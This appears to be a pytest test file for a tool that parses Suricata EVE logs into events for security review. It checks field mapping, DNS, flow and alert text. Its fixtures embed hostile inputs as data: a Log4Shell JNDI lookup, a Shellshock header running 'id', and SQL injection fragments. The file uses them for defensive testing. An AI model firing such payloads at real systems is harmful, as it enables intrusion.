from __future__ import annotations

import base64
import gzip
import json
from collections import Counter
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from overproof.errors import InputError
from overproof.events.sources import Rejects, load_events
from overproof.events.sources.suricata.payload import unsaid

BASE = {
    "timestamp": "2024-05-01T12:00:00.000001+0200", "flow_id": 7, "src_ip": "10.0.0.1", "src_port": 40000,
    "dest_ip": "192.0.2.1", "dest_port": 80, "proto": "TCP",
}  # fmt: skip


def one(read, kind: str, **keys: Any) -> dict[str, Any]:
    table, rejects = read("eve.json", json.dumps(BASE | {"event_type": kind} | keys).encode())
    assert rejects.total == 0
    (event,) = table.to_pylist()
    return event


def test_the_columns(read) -> None:
    http = {"hostname": "a.test", "url": "/%2527", "http_method": "GET", "http_user_agent": "x", "status": 404}
    event = one(read, "http", http=http)
    assert event["text"] == 'HTTP GET /%27 host=a.test ua="x"'
    assert event["time"] == "2024-05-01T10:00:00.000001Z"
    wanted = {
        "kind": "suricata-http", "src_ip": "10.0.0.1", "src_port": 40000, "dst_ip": "192.0.2.1", "dst_port": 80,
        "transport": "tcp", "protocol": "http", "host": "a.test", "url": "/%2527", "method": "GET", "status": 404,
        "user_agent": "x", "flow_id": "7", "group": "7", "query": None, "user": None,
    }  # fmt: skip
    assert event.items() >= wanted.items()


def test_headers_are_in_the_text_where_they_are_dumped_and_unusual(read) -> None:
    dumped = [{"name": "Accept", "value": "*/*"}, {"name": "X-Api-Version", "value": "${jndi:ldap://a.test}"}, 7]
    event = one(read, "http", http={"url": "/", "http_method": "GET", "request_headers": dumped})
    assert event["text"] == "HTTP GET / headers=x-api-version: ${jndi:ldap://a.test}"
    event = one(read, "http", http={"url": "/", "http_method": "GET", "request_headers": "none"})
    assert event["text"] == "HTTP GET /"


JNDI = "${jndi:ldap://a.test}"
BASE64 = base64.b64encode(b"id=1' or \xff").decode()
GET = {"url": "/", "http_method": "GET"}


@pytest.mark.parametrize(
    ("http", "text"),
    [
        ({"xff": JNDI, "accept_language": "de"}, f"headers=xff: {JNDI}"),
        ({"authorization": JNDI, "http_content_type": "text/<x>", "server": "<x>"}, f"headers=authorization: {JNDI}"),
        ({"request_headers": [{"name": "Cookie", "value": JNDI}]}, f"cookie={JNDI}"),
        ({"http_request_body": BASE64}, "body=id=1' or \\xff"),
        ({"http_request_body": BASE64, "http_request_body_printable": "id=1"}, "body=id=1"),
        ({"http_request_body": "not base64'"}, "body=not base64'"),
    ],
)
def test_whatever_a_client_sent_is_in_the_text(read, http: dict[str, Any], text: str) -> None:
    assert one(read, "http", http=GET | http)["text"] == f"HTTP GET / {text}"


def test_an_alert_without_a_request_has_its_payload(read) -> None:
    alert = {"signature": "s"}
    for payload, text in (
        ({"payload_printable": JNDI, "payload": BASE64}, JNDI),
        ({"payload": BASE64}, "id=1' or \\xff"),
    ):
        assert one(read, "alert", alert=alert, **payload)["text"].endswith(f" port=80 payload={text}")
    text = one(read, "alert", alert=alert, http=GET, payload=BASE64)["text"]
    assert text.endswith(" HTTP GET / payload=id=1' or \\xff")


def test_of_several_questions_the_first_is_told_and_the_others_are_marked(read) -> None:
    asked = [{"rrname": name, "rrtype": "A"} for name in ("a.test", "b.test")]
    for questions in (asked[:1], asked):
        event = one(read, "dns", dns={"version": 3, "type": "request", "queries": questions})
        assert (event["query"], event["overflow"]) == ("a.test", len(questions) > 1)


ANSWERS = [{"rrname": "a.test", "rrtype": "CNAME", "ttl": 900, "rdata": "b.test"}, {"ttl": 60, "rdata": "192.0.2.9"}]
NAMED = {"rrname": "a.test", "rrtype": "A"}


@pytest.mark.parametrize(
    ("dns", "text"),
    [
        ({"type": "query", "id": 1, **NAMED, "tx_id": 0}, "query=a.test type=A"),
        ({"version": 3, "type": "request", "queries": [NAMED]}, "query=a.test type=A"),
        (
            {"type": "answer", "rcode": "NOERROR", **NAMED, "ttl": 60, "rdata": "192.0.2.9"},
            "query=a.test type=A rcode=NOERROR answer=192.0.2.9 ttl=2^5",
        ),
        (
            {"version": 2, "type": "answer", **NAMED, "rcode": "NOERROR", "answers": ANSWERS},
            "query=a.test type=A rcode=NOERROR answer=b.test,192.0.2.9 ttl=2^5",
        ),
        (
            {"version": 3, "type": "response", "queries": [NAMED], "rcode": "NOERROR", "answers": ANSWERS},
            "query=a.test type=A rcode=NOERROR answer=b.test,192.0.2.9 ttl=2^5",
        ),
        ({"version": 2, "type": "answer", **NAMED, "rcode": "NXDOMAIN"}, "query=a.test type=A rcode=NXDOMAIN answer=-"),
    ],
)
def test_the_versions_of_dns(read, dns: dict[str, Any], text: str) -> None:
    event = one(read, "dns", dns=dns, proto="UDP", dest_port=53)
    assert event["text"] == "dns client=10.0.0.1 " + text
    assert event["query"] == "a.test"
    answered = one(read, "dns", dns=dns, src_ip="192.0.2.53", src_port=53, dest_ip="10.0.0.1", dest_port=40000)
    assert answered["text"] == event["text"]


@pytest.mark.parametrize(
    ("keys", "state"),
    [
        ({"flow": {"pkts_toclient": 0}}, "S0"),
        ({"flow": {"pkts_toclient": 2}, "proto": "UDP"}, "SF"),
        ({"flow": {"pkts_toclient": 1}, "tcp": {"tcp_flags_ts": "02", "tcp_flags_tc": "14"}}, "REJ"),
        ({"flow": {"pkts_toclient": 1}, "tcp": {"tcp_flags_ts": "1b", "tcp_flags_tc": "1b"}}, "SF"),
        ({"flow": {"pkts_toclient": 1}, "tcp": {"tcp_flags_ts": "1e", "tcp_flags_tc": "12"}}, "RSTO"),
        ({"flow": {"pkts_toclient": 1}, "tcp": {"tcp_flags_ts": "1a", "tcp_flags_tc": "16"}}, "RSTR"),
        ({"flow": {"pkts_toclient": 1}, "tcp": {"tcp_flags_ts": "1a", "tcp_flags_tc": "12"}}, "S1"),
        ({"flow": {"pkts_toclient": 1}, "tcp": {"tcp_flags_ts": "1b", "tcp_flags_tc": "12"}}, "S2"),
        ({"flow": {"pkts_toclient": 1}, "tcp": {"tcp_flags_ts": "1a", "tcp_flags_tc": "13"}}, "S3"),
        ({"flow": {"pkts_toclient": 1}, "tcp": {"tcp_flags_ts": "00", "tcp_flags_tc": "??"}}, "OTH"),
        ({}, "S0"),
    ],
)
def test_how_a_flow_went_in_zeeks_words(read, keys: dict[str, Any], state: str) -> None:
    assert f"state={state} " in one(read, "flow", **keys)["text"]


@pytest.mark.parametrize(
    ("kind", "keys", "text"),
    [
        (
            "flow",
            {"host": "gw", "app_proto": "tls", "flow": {"age": 9, "bytes_toserver": 1024, "bytes_toclient": 0}},
            "flow sensor=gw proto=tcp service=tls state=S0 duration=2^3s orig_host=10.0.0.1 orig_bytes=2^10 "
            "resp_host=192.0.2.1 resp_bytes=0",
        ),
        (
            "tls",
            {"tls": {"sni": "a.test", "version": "TLS 1.2", "issuerdn": "CN=a", "subject": "CN=a",
                     "notbefore": "2024-01-01T00:00:00", "notafter": "2024-04-01T00:00:00"}},
            "TLS 10.0.0.1 sni=a.test hello=TLS1.2 issuer=self valid=2^6d",
        ),
        ("tls", {"tls": {"ja3": {"hash": "abc"}}}, "TLS 10.0.0.1 sni=- hello=abc"),
        (
            "ssh",
            {"ssh": {"client": {"proto_version": "2.0", "software_version": "Go"}}},
            "SSH src=10.0.0.1 dst=192.0.2.1 port=80 client=Go",
        ),
        (
            "fileinfo",
            {"app_proto": "http", "fileinfo": {"filename": "/a b", "size": 47}},
            'file source=http name="/a b" bytes=2^5 tx_host=10.0.0.1 rx_host=192.0.2.1',
        ),
        (
            "alert",
            {"alert": {"signature": "ET SCAN x", "category": "Scan", "severity": 2, "action": "allowed", "gid": 1},
             "http": {"url": "/x", "http_method": "GET"}},
            'suricata alert signature="ET SCAN x" category=Scan severity=2 action=allowed proto=tcp src=10.0.0.1 '
            "dst=192.0.2.1 port=80 HTTP GET /x",
        ),
        (
            "smb",
            {"smb": {"command": "SMB2", "ntlmssp": {"user": "anna", "host": "ws 1"}, "dialects": ["a", "b"]}},
            "suricata smb proto=tcp src=10.0.0.1 dst=192.0.2.1 port=80 command=SMB2 ntlmssp.user=anna "
            'ntlmssp.host="ws 1" dialects=a,b',
        ),
    ],
)  # fmt: skip
def test_what_the_events_say(read, kind: str, keys: dict[str, Any], text: str) -> None:
    event = one(read, kind, **keys)
    assert event["text"] == text
    assert event["kind"] == f"suricata-{kind}"


def test_statistics_and_what_is_no_event_are_skipped_with_their_reason(read) -> None:
    lines = [
        json.dumps(BASE | {"event_type": "stats", "stats": {}}), json.dumps(BASE | {"event_type": "dns"}),
        "", "[1]", "{", json.dumps(BASE), '{"event_type":',
    ]  # fmt: skip
    table, rejects = read("eve.json", "\n".join(lines).encode())
    assert table.num_rows == 1
    assert rejects.summary() == {
        "no event_type: not an event of an EVE log": 1,
        "JSON is not an object": 1,
        "JSON does not parse": 2,
        "Suricata's own statistics: not an event to judge": 1,
    }


def test_the_real_log(shared_data: Path) -> None:
    path = shared_data / "captures" / "suricata" / "eve.json.gz"
    records = [json.loads(line) for line in gzip.decompress(path.read_bytes()).splitlines()]
    rejects = Rejects()
    table = load_events(path, rejects=rejects)
    events = table.to_pylist()
    kinds = Counter(event["kind"] for event in events)
    sums = kinds.pop("flows")
    assert kinds == {f"suricata-{kind}": n for kind, n in Counter(r["event_type"] for r in records).items()}
    assert kinds.total() + rejects.total == len(records) == 5000
    assert 0 < sums < kinds["suricata-flow"] / 2
    for event in events:
        if event["kind"] != "flows":
            record = records[int(event["origin"].rsplit(":", 1)[1]) - 1]
            assert event["flow_id"] == str(record["flow_id"])
            assert (event["src_ip"], event["dst_port"]) == (record["src_ip"], record["dest_port"])
            assert event["url"] == record.get("http", {}).get("url")


value = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | st.text(max_size=5),
    lambda inner: st.lists(inner, max_size=2) | st.dictionaries(st.text(max_size=2), inner, max_size=2),
)
parts = st.dictionaries(
    st.sampled_from(
        "hostname url http_method status rrname queries answers type rcode ttl rdata age start pkts_toclient sni ja3 "
        "issuerdn notbefore notafter client signature filename size tcp_flags_ts tcp_flags_tc".split()
    ),
    value,
    max_size=6,
)
kinds = st.sampled_from(["http", "dns", "tls", "ssh", "flow", "alert", "fileinfo", "anomaly", "stats"])
record = st.builds(
    lambda kind, own, others: json.dumps(BASE | {kind: own, "event_type": kind} | others).encode(),
    kinds,
    parts | value,
    st.dictionaries(
        st.sampled_from([*BASE, "event_type", "tcp", "http", "app_proto", "host"]), value | parts, max_size=4
    ),
)


@given(st.lists(record | st.binary(max_size=20), max_size=6))
def test_every_line_of_any_bytes_is_an_event_or_skipped(read, lines: list[bytes]) -> None:
    rejects = Rejects(examples=100)
    data = b"\n".join([b"{}", *lines])
    try:
        table = read("any.json", data, rejects, format="suricata")[0]
        origins = [event["origin"] for event in table.to_pylist() if event["kind"] != "flows"]
    except InputError:
        origins = []
    found = sorted(int(origin.rsplit(":", 1)[1]) for origin in [*origins, *(each.origin for each in rejects.first)])
    assert found == [number for number, line in enumerate(data.split(b"\n"), 1) if line.strip()]


def test_events_of_mail_and_alerts_about_it(read) -> None:
    email = {"status": "PARSE_DONE", "from": "A <a@x.test>", "to": ["b@y.test", "c@y"], "subject": "your invoice",
             "attachment": ["invoice.exe"], "url": ["x.test/a"], "body_md5": "00", "received": ["by y"]}  # fmt: skip
    smtp = {"helo": "x", "mail_from": "<a@x.test>", "rcpt_to": ["<b@y.test>"]}
    lines = [
        {"timestamp": "2024-01-01T00:00:00+0000", "event_type": "smtp", "smtp": smtp, "email": email},
        {"timestamp": "2024-01-01T00:00:00+0000", "event_type": "email", "email": {"from": "a", "subject": "s"}},
        BASE | {"event_type": "alert", "alert": {"signature": "x"}, "email": {"attachment": ["a.exe"]}},
    ]
    table, rejects = read("a.json", b"\n".join(json.dumps(line).encode() for line in lines))
    assert rejects.total == 0
    said, short, alert = table["text"].to_pylist()
    assert said == (
        'suricata smtp helo=x mail_from=<a@x.test> rcpt_to=<b@y.test> email.from="A <a@x.test>" '
        'email.to=b@y.test,c@y email.subject="your invoice" email.attachment=invoice.exe email.url=x.test/a '
        'email.received="by y"'
    )
    assert short == "suricata email email.from=a email.subject=s"
    assert alert.endswith(" email.attachment=a.exe")


def test_ports_as_text_and_events_without_flow_id(read) -> None:
    flow = {"timestamp": "2024-01-01T00:00:00+0000", "event_type": "flow", "proto": "TCP", "src_ip": "10.0.0.1",
            "src_port": "50000", "dest_ip": "192.0.2.1", "dest_port": "22", "flow": {"pkts_toclient": "0"}}  # fmt: skip
    answer = {"timestamp": "2024-01-01T00:00:00+0000", "event_type": "dns", "src_port": "53",
              "src_ip": "192.0.2.53", "dest_ip": "10.0.0.1", "dest_port": "5353", "dns": {"rrname": "a"}}  # fmt: skip
    answer["community_id"] = "1:x"
    lines = [flow, flow | {"src_port": "50001", "dest_ip": "192.0.2.2"}, answer]
    for first in range(3):
        data = b"\n".join(json.dumps(line).encode() for line in lines[first:] + lines[:first])
        events = {event["origin"][-1] + event["kind"]: event for event in read("a.log", data)[0].to_pylist()}
        assert sorted(kind[1:] for kind in events) == ["flows", "suricata-dns", "suricata-flow", "suricata-flow"]
        (asked,) = [event for event in events.values() if event["kind"] == "suricata-dns"]
        assert (asked["src_port"], asked["dst_port"], asked["group"]) == (53, 5353, "1:x")
        assert asked["text"].startswith("dns client=10.0.0.1 ")
    assert read("a.log", b'{"timestamp":"2024-01-01","event_type":"arp","arp":{"opcode":"request"}}')[0].num_rows == 1


def test_deeply_nested_json_is_no_crash(read) -> None:
    deep = "[" * 900 + "]" * 900
    for inner in (deep, '{"a":' * 900 + "1" + "}" * 900):
        table, _ = read(
            "eve.json", json.dumps(BASE | {"event_type": "x"})[:-1].encode() + b',"x":{"y":%b}}' % inner.encode()
        )
        assert table.num_rows == 1


ATTACK = "a' or <b>"
SENT: dict[str, dict[str, Any]] = {
    "dns": {"query": [{"type": "query", "rrname": ATTACK}]},
    "tls": {"sni": ATTACK},
    "ssh": {"client": {"software_version": ATTACK}},
    "smtp": {"helo": ATTACK},
    "ftp": {"command_data": ATTACK},
    "smb": {"filename": ATTACK},
    "http": {"url": f"/?q={ATTACK}"},
}


@pytest.mark.parametrize("protocol", SENT)
@pytest.mark.parametrize(
    ("kind", "about"), [("alert", {"signature": "S"}), ("fileinfo", {"filename": "/c"}), ("drop", {"reason": "flow"})]
)
def test_what_a_client_sent_beside_an_event_is_judged_once(
    read, kind: str, about: dict[str, Any], protocol: str
) -> None:
    found = one(read, kind, **{kind: about, protocol: SENT[protocol]})
    assert found["text"].count(ATTACK) == 1


def test_names_of_files_in_an_alert_and_of_a_client_in_its_certificate_are_judged(read) -> None:
    assert ATTACK in one(read, "alert", alert={"signature": "S"}, files=[{"filename": ATTACK}])["text"]
    assert ATTACK in one(read, "tls", tls={"sni": "a.test", "client": {"subject": ATTACK}})["text"]


def test_what_a_server_says_is_not_added(read) -> None:
    http = {"url": "/", "http_response_body_printable": ATTACK, "response_headers": [{"name": "a", "value": ATTACK}]}
    assert ATTACK not in one(read, "alert", alert={"signature": "S"}, http=http)["text"]
    assert ATTACK not in one(read, "tls", tls={"sni": "a.test", "subject": ATTACK})["text"]


def test_the_line_of_a_request_of_http2_may_stand_among_its_headers(read) -> None:
    names = {":method": "GET", ":path": "/?q=%27", ":authority": "a.test", "user-agent": "curl"}
    headers = [{"name": name, "value": value} for name, value in names.items()]
    found = one(read, "http", http={"version": "2", "request_headers": headers})
    assert found["text"] == 'HTTP GET /?q=\' host=a.test ua="curl"'
    assert (found["method"], found["host"], found["url"]) == ("GET", "a.test", "/?q=%27")


REQUEST = "POST /a HTTP/1.1\r\nHost: h\r\nX-Api: () { :;}; id\r\nAccept: */*\r\n\r\nid=1' UNION SELECT"


@pytest.mark.parametrize("encoded", [True, False])
def test_what_the_request_of_an_alert_lacks_is_taken_from_its_payload(read, encoded: bool) -> None:
    """Suricata logs neither the body nor the headers of a request with an alert unless it is told to."""
    payload = {"payload": base64.b64encode(REQUEST.encode()).decode()} if encoded else {"payload_printable": REQUEST}
    http = {"hostname": "h", "url": "/a", "http_method": "POST"}
    whole = {**http, "http_request_body_printable": "id=1' UNION SELECT"}
    for said, further in (
        (http, " payload=X-Api: () { :;}; id\nid=1' UNION SELECT"),
        (whole, " body=id=1' UNION SELECT payload=X-Api: () { :;}; id"),
    ):
        record = {
            "timestamp": "2024-05-01T12:00:00.000000+0200",
            "event_type": "alert",
            "src_ip": "192.0.2.7",
            "alert": {"signature": "S"},
            "http": said,
            **payload,
        }
        table, _ = read("eve.json", json.dumps(record).encode())
        assert table["text"].to_pylist() == [f"suricata alert signature=S src=192.0.2.7 HTTP POST /a host=h{further}"]


@given(st.text(max_size=30), st.sampled_from(["", "GET /a HTTP/1.1\r\nHost: h\r\n\r\n", "HTTP/1.1 200 OK\r\n\r\n"]))
def test_content_behind_any_head_is_in_the_text(content: str, head: str) -> None:
    text = "HTTP GET /a host=h"
    assert content in text or content in (unsaid(f"{head}{content}", text) or "") or (not head and "\n" in content)


def test_an_event_of_a_kind_without_an_object_of_its_name_says_what_others_hold(read) -> None:
    flow = {"timestamp": "2024-05-01T12:00:00.000000+0200", "flow_id": 1, "src_ip": "192.0.2.7"}
    lines = [
        flow | {"event_type": "http2", "http": {"url": "/x'", "http_method": "GET"}},
        flow | {"event_type": "doh2", "dns": {"queries": [{"rrname": "evil.example"}]}, "flow": {"age": 1}},
        flow | {"event_type": "anomaly", "anomaly": {"type": "x"}, "http": {"url": "/%27"}},
    ]
    table, _ = read("eve.json", "".join(f"{json.dumps(line)}\n" for line in lines).encode())
    assert table["text"].to_pylist() == [
        "suricata http2 src=192.0.2.7 http.url=/x' http.http_method=GET",
        'suricata doh2 src=192.0.2.7 dns.queries="{"rrname": "evil.example"}"',
        "suricata anomaly src=192.0.2.7 type=x http.url=/'",
    ]
